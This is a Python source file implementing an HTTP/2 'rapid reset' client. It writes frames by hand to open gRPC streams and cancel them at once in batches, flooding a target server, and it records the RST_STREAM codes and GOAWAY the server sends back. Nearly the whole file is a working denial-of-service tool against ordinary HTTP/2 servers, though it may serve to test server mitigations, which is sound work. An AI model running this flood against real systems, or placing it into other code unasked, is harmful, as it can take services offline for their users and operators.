"""An HTTP/2 client that opens streams and resets them at once (rapid reset), written frame by frame: what a
stock client never does. It reads what the server sends back: its SETTINGS (acknowledged), RST_STREAM codes,
GOAWAY."""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = 0x8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: str, value: str) -> bytes:
    """An HPACK header field, literal without indexing, new name (both shorter than 127 bytes)."""
    n, v = name.encode(), value.encode()
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def call_headers(path: str) -> bytes:
    """The header block of a gRPC call to ``path`` (``:method POST`` and ``:scheme http`` from the static table)."""
    return (
        b"\x83\x86"
        + _literal(":path", path)
        + _literal(":authority", "rapid-reset")
        + _literal("content-type", "application/grpc")
        + _literal("te", "trailers")
    )


class RapidReset:
    """One connection to ``host:port`` that floods it with streams opened and cancelled."""

    def __init__(self, host: str, port: int, path: str) -> None:
        self.sock = socket.create_connection((host, port), timeout=10)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.block = call_headers(path)
        self.resets: Counter[int] = Counter()
        """RST_STREAM frames the server sent, by error code."""
        self.goaway: int | None = None
        """The error code of the server's GOAWAY, if it sent one."""
        self.closed = False
        self._reader = threading.Thread(target=self._read, name="rapid-reset-reader", daemon=True)
        self._reader.start()

    def _read(self) -> None:
        buf = b""
        try:
            while chunk := self.sock.recv(65536):
                buf += chunk
                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                    n = int.from_bytes(buf[:3], "big")
                    kind, flags, payload, buf = buf[3], buf[4], buf[9 : 9 + n], buf[9 + n :]
                    if kind == SETTINGS and not flags & ACK:
                        self.sock.sendall(frame(SETTINGS, ACK, 0))
                    elif kind == RST_STREAM:
                        self.resets[int.from_bytes(payload[:4], "big")] += 1
                    elif kind == GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
        except OSError:
            pass
        self.closed = True

    def flood(self, streams: int, seconds: float, batch: int = 200) -> int:
        """Open and cancel ``streams`` streams over ``seconds``, ``batch`` at a time (each batch's streams opened,
        then reset); how many were sent before the server closed."""
        stream, sent, began = 1, 0, time.monotonic()
        cancel = struct.pack(">I", CANCEL)
        try:
            while sent < streams and not self.closed:
                ids = range(stream, stream + 2 * batch, 2)
                opened = b"".join(frame(HEADERS, END_HEADERS, i, self.block) for i in ids)
                self.sock.sendall(opened + b"".join(frame(RST_STREAM, 0, i, cancel) for i in ids))
                stream, sent = stream + 2 * batch, sent + batch
                ahead = began + seconds * sent / streams - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)
        except OSError:
            pass
        return sent

    def close(self) -> None:
        self.sock.close()
        self._reader.join(5)
